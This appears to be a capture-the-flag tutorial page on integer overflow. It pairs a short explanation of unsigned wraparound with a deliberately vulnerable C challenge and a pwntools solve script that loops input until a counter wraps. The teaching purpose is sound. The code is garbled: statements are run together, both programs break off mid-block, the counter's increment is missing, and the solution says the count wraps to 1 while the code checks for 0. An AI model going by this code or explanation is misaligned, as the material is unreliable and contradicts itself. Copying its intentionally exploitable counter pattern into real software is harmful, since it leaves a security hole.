Integer Overflow

Integer Underflow #

Description #

Integers have a maximum size, and if you go past the maximum size, it becomes a small number (either negative or zero).

For example, a single (unsigned) byte has a maximum value of 255. Adding one to the byte will set the value to 0, not 256.

The largest (unsigned) values for ints (4 bytes) and longs (8 bytes) are 4294967295 and 18446744073709551615 respectively. (roughly 2^32 and 2^64).

Example #

#include <stdio.h>
#include <string.h>
// gcc -g -o chal chal.c

int main() {
    puts("Welcome to our user email sweepstake!");
    puts("Only the first user gets the flag.");

    unsigned char count = 5;  // hehe, start count at 5 so we don't have to pay out the flag ( •̀ᴗ•́ )
    char email[32];

    while (1) {
        puts("Enter email: ");
        fgets(email, 31, stdin);
        email[strcspn(email, "\n")] = 0;if (count == 0) {
            printf("Congrats %s,you are the first user (count=%d).\n", email, count);return 0;
        } else {
            printf("Sorry %s, you are not the first user (count=%d). No flag for you.\n", email, count);


Solution #

We just send input until the count wraps around to 1.

Solve Script #

import pwn

p = pwn.process("./chal")

while True:
    p.sendlineafter(b"email: \n", b"")
    line = p.recvline()if b"Congrats" in line:

Files #